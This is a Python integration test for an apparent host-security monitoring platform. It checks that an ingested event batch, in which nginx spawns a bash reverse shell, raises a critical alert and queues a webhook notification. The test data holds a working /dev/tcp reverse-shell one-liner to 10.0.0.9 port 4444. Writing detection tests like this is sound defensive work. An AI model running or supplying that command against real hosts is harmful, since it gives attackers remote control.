"""Through the real ingest path: an agent's batch (msgpack + zstd over HTTP) raises an alert in the same
transaction that stores the events, and a webhook channel receives it."""

from __future__ import annotations

import time

from platform_helpers import Platform, batch_body, enroll, exec_event, ingest


def test_batch_raises_alert_and_queues_notification(platform: Platform) -> None:
    agent = enroll(platform, "web-7")
    r = platform.client.post("/api/v1/channels", headers=platform.admin, json={
        "name": "hook", "kind": "webhook", "config": {"url": "http://127.0.0.1:9/"}, "min_severity": "high"})
    assert r.status_code == 201
    nginx = exec_event(100, "/usr/sbin/nginx", ["nginx"])
    shell = exec_event(200, "/usr/bin/bash", ["bash", "-c", "bash -i >& /dev/tcp/10.0.0.9/4444 0>&1"], ppid=100,
                       parent_key=nginx.process.key,
                       ancestors=[[100, nginx.process.key, "/usr/sbin/nginx"]])
    status, _ = ingest(platform, agent, batch_body([nginx, shell]))
    assert status == 200
    alerts = platform.client.get("/api/v1/alerts", headers=platform.admin).json()["alerts"]
    assert len(alerts) == 1
    [a] = alerts
    assert (a["host"], a["severity"], a["pid"], a["n_detections"]) == ("web-7", "critical", 200, 2)
    assert a["title"].startswith("bash -c bash -i >& /dev/tcp/10.0.0.9/4444 0>&1 spawned by nginx (pid 200")
    assert time.time_ns() - a["last_ts"] < 60 * 10**9
    detail = platform.client.get(f"/api/v1/alerts/{a['id']}", headers=platform.admin).json()
    assert {d["name"] for d in detail["detections"]} == {"Reverse shell through /dev/tcp",
                                                        "Shell spawned by a server process"}
    channels = platform.client.get("/api/v1/channels", headers=platform.admin).json()["channels"]
    assert channels[0]["notifications"] == {"pending": 1}
